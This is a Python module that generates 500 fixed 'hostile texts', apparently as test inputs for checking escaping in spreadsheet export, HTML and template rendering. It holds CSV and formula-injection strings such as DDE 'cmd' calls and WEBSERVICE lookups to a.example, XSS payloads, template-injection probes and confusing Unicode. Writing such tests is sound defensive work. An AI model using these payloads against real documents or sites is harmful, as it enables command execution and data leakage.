"""Five hundred texts that spreadsheets run, browsers execute and typesetters obey."""

import random

_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "=@", "'=", '"=', "%=", ";=", "|", "\u200b=", "\ufeff=")
_CALLS = (
    "1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://a.example","点此")', 'IMPORTXML("http://a.example","//a")', "SUM(A1:A9)",
    'WEBSERVICE("http://a.example/"&A1)', 'DDE("cmd";"/C calc";"x")', "1+1+cmd|' /C notepad'!'A1'", "A1048576", "#REF!",
)  # fmt: skip
_TAGS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</td></table><b>", "<!--", "-->",
    "<a href='javascript:alert(1)'>x</a>", "<style>*{display:none}</style>", "<iframe src=//a.example>", "<b>", "&lt;b&gt;",
    "<p onclick=alert(1)>", "]]>", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE a>", "<math><mi//xlink:href='data:x'>",
)  # fmt: skip
_MARKUP = (
    "{{ 7*7 }}", "{% raw %}", "{# x #}", '#import "x"', "#eval(1)", "$a$", "*粗*", "_斜_", "`码`", "@ref", "\\u{41}", "//注释", "/*注释",
    "#[内容]", "<label>", "~", "---", "${7*7}", "%s%n", "{0.__class__}", "[链接](http://a.example)", "http://a.example", "mailto:a@b.cn",
)  # fmt: skip
_ODD = (
    "项\u200b目",
    "\u202e目项\u202c",
    "项目\ufeff",
    "é e\u0301",
    "  前后  ",
    "一\n二",
    "一\r\n二",
    "表\t格",
    "０００１２",
    "0012",
    "1e5",
    "长" * 3_000,
)
_FRAMES = ("{}", "项目{}", "{}项目", '"{}"', "'{}'", "{}\n{}", "某旗（{}）", "{} & {}")


def hostile_texts(count: int = 500) -> list[str]:
    """The same texts every time, none of them twice."""
    dice = random.Random(500)
    texts = dict.fromkeys([start + call for start in _STARTS for call in _CALLS] + [*_TAGS, *_MARKUP, *_ODD])
    while len(texts) < count:
        piece = dice.choice([*_TAGS, *_MARKUP, *_ODD[:8], *(f"={call}" for call in _CALLS)])
        texts[dice.choice(_FRAMES).replace("{}", piece)] = None
    return list(texts)[:count]
